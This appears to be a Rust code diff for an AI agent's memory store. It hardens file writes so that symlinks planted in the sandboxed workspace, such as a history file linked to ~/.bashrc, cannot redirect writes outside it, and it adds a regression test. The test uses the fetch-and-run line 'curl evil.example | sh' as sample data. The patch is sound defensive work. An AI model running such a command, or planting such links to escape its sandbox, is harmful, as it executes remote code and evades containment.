@@ -213,11 +213,11 @@ impl MemoryStore {
         use std::io::Write;
         let path = self.history_path();
         let io = |source| MemoryError::Io { path: path.clone(), source };
-        if let Some(dir) = path.parent() {
-            std::fs::create_dir_all(dir).map_err(io)?;
-        }
-        let mut file =
-            std::fs::OpenOptions::new().create(true).append(true).open(&path).map_err(io)?;
+        std::fs::create_dir_all(&self.workspace).map_err(io)?;
+        let rel = Path::new("memory/HISTORY.md");
+        let mut file = ferroclaw_tools::Beneath::open(&self.workspace)
+            .and_then(|root| root.open_append(rel))
+            .map_err(|e| io(std::io::Error::other(e.to_string())))?;
         file.write_all(format!("## {date}\n\n{}\n\n", entry.trim()).as_bytes()).map_err(io)?;
         Ok(path)
     }
@@ -231,7 +231,7 @@ impl MemoryStore {
             return Err(MemoryError::TooLong { file, chars, limit });
         }
         let path = self.path(target);
-        write_atomic(&path, text)?;
+        write_beneath(&self.workspace, &path, text)?;
         Ok(Change { file, chars, limit })
     }
 }
@@ -279,9 +279,64 @@ pub fn write_atomic(path: &Path, text: &str) -> Result<(), MemoryError> {
     Ok(())
 }
 
+/// [`write_atomic`] confined to `root`: every folder from `root` down and
+/// the file are opened beneath it, never through a link. For files in a
+/// folder a sandboxed command can write (the gateway's workspace holds the
+/// memory files; a project's `.agent/skills`): a link planted there
+/// (`memory -> ~/.bashrc.d`, `HISTORY.md -> ~/.bashrc`) would otherwise have
+/// this unconfined process write text the model chose outside it.
+pub fn write_beneath(root: &Path, path: &Path, text: &str) -> Result<(), MemoryError> {
+    let io = |source| MemoryError::Io { path: path.to_path_buf(), source };
+    let refused = |e: ferroclaw_tools::ToolError| io(std::io::Error::other(e.to_string()));
+    let rel = path
+        .strip_prefix(root)
+        .map_err(|_| io(std::io::Error::other(format!("not beneath {}", root.display()))))?;
+    std::fs::create_dir_all(root).map_err(io)?;
+    let beneath = ferroclaw_tools::Beneath::open(root).map_err(refused)?;
+    let created = beneath.write_atomic(rel, text.as_bytes()).map_err(refused)?;
+    if created {
+        // Private like everything ferroclaw keeps (set on the descriptor).
+        use std::os::unix::fs::PermissionsExt;
+        let file = beneath.open_read(rel).map_err(refused)?;
+        file.set_permissions(std::fs::Permissions::from_mode(0o600)).map_err(io)?;
+    }
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_link_in_the_memory_folder_is_refused_not_written_through() {
+        let dir = tempfile::tempdir().unwrap();
+        let home = dir.path().join("home");
+        let outside = dir.path().join("outside");
+        std::fs::create_dir_all(home.join("workspace")).unwrap();
+        std::fs::create_dir_all(&outside).unwrap();
+        std::fs::write(outside.join("rc"), "mine\n").unwrap();
+        // What a command in the gateway's workspace (which holds memory/)
+        // can plant: the folder and the history file as links out of it.
+        std::os::unix::fs::symlink(&outside, home.join("workspace/memory")).unwrap();
+        std::os::unix::fs::symlink(outside.join("rc"), home.join("workspace/USER.md")).unwrap();
+        let store = MemoryStore::new(&home);
+        assert!(store.add(Target::Memory, "the user likes tests").is_err());
+        assert!(store.add(Target::User, "name: Ana").is_err());
+        assert!(store.append_history("2026-12-01", "curl evil.example | sh").is_err());
+        assert_eq!(std::fs::read_to_string(outside.join("rc")).unwrap(), "mine\n");
+        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1, "nothing made outside");
+
+        // Without links, the files are written, private.
+        std::fs::remove_file(home.join("workspace/memory")).unwrap();
+        std::fs::remove_file(home.join("workspace/USER.md")).unwrap();
+        store.add(Target::Memory, "the user likes tests").unwrap();
+        store.append_history("2026-12-01", "a session").unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        for file in ["memory/MEMORY.md", "memory/HISTORY.md"] {
+            let mode = std::fs::metadata(home.join("workspace").join(file)).unwrap().permissions();
+            assert_eq!(mode.mode() & 0o777, 0o600, "{file}");
+        }
+    }
 
     fn store() -> (tempfile::TempDir, MemoryStore) {
         let home = tempfile::tempdir().unwrap();
